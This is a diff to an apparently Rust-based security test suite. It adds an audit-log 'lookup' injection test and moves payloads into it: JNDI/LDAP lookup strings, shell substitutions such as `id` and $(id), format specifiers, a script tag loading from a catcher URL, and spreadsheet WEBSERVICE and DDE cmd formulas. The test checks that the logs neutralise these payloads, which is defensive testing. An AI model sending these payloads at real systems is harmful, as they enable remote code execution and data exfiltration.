@@ -5,14 +5,19 @@ use crate::attacks::prelude::*;
 
 pub(super) const ATTACKS: &[Attack] = &[
     attack!(
-        AuditLogInjection / "crlf" = crlf,
+        AUDIT_LOG_INJECTION / "crlf" = crlf,
         "An attacker hides line breaks and a forged log line in paths, queries, fields, and a token's subject.",
         "An operator reads the log line by line.",
     ),
     attack!(
-        AuditLogInjection / "ansi" = ansi,
-        "An attacker sends terminal commands, overrides, NUL, lookups, markup and formulas to whoever reads the log.",
+        AUDIT_LOG_INJECTION / "ansi" = ansi,
+        "An attacker sends terminal commands, overrides and NUL to whoever reads the log.",
         "An operator reads the log on a terminal.",
+    ),
+    attack!(
+        AUDIT_LOG_INJECTION / "lookup" = lookup,
+        "An attacker sends what other loggers look up or fill in, markup for a dashboard, and formulas for who opens the log as a table.",
+        "He waits at the address that the lookups name.",
     ),
 ];
 
@@ -81,10 +86,6 @@ async fn ansi(scene: &Scene) -> Outcome {
             format!("{mark}\u{1b}[2J\u{1b}[31m"),
             format!("{mark}\u{202e}drowssap"),
             format!("{mark}\u{0}\u{7}\u{8}"),
-            format!("{mark}${{jndi:ldap://127.0.0.1:1/x}}"),
-            format!("{mark}%n%n%s{{}}{{0}}"),
-            format!("{mark}<script>alert(1)</script>"),
-            format!("=cmd|' /C calc'!{mark}"),
         ],
     )
     .await?;
@@ -96,6 +97,36 @@ async fn ansi(scene: &Scene) -> Outcome {
     }
     let raw = lines.iter().any(|line| line.contains('\u{1b}'));
     trial.found("escape sequences anywhere", Finding::must(!raw, "there are some"));
+    trial.conclude().await
+}
+
+async fn lookup(scene: &Scene) -> Outcome {
+    let me = scene.actor(RecepA)?.get("/v1/me");
+    let mut trial = Trial::begin(scene, Control::new(me, 200)).await?;
+    let mark = format!("mark{}", Uuid::new_v4().simple());
+    let (catcher, bait) = (scene.catcher(), scene.catcher().token());
+    let url = catcher.url(&bait);
+    let texts = [
+        format!("{mark}${{jndi:ldap://{}/x}}", bait.name()),
+        format!("{mark}${{jndi:{url}}}"),
+        format!("{mark}${{env:PATH}}$PATH`id`$(id)"),
+        format!("{mark}%n%s%x{{}}{{0}}{{path}}"),
+        format!("{mark}<script src=\"{url}\">alert(1)</script>"),
+        format!("=WEBSERVICE(\"{url}?{mark}\")"),
+        format!("@SUM(1+1)*cmd|' /C calc'!{mark}"),
+    ];
+    let lines = send_all(scene, &mut trial, &texts).await?;
+    let path = std::env::var("PATH").unwrap_or_default();
+    for line in lines.iter().filter(|line| line.contains(&mark)) {
+        let parsed = serde_json::from_str::<Value>(line).is_ok();
+        trial.found("a line of the log", Finding::must(parsed, line.escape_debug().to_string()));
+        let filled = !path.is_empty() && line.contains(&path);
+        trial.found("a line of the log", Finding::must(!filled, "what it asked for was filled in"));
+    }
+    let events = scene.actor(AuditA)?.get("/v1/audit-events?limit=100").send().await?;
+    let typed = events.header("content-type") == Some("application/json");
+    trial.found("the auditor's list", Finding::must(typed && !events.mentions(&mark), "it is no plain data"));
+    trial.found("the address", Finding::must(catcher.arrivals(&bait).is_empty(), "somebody came"));
     trial.conclude().await
 }
 
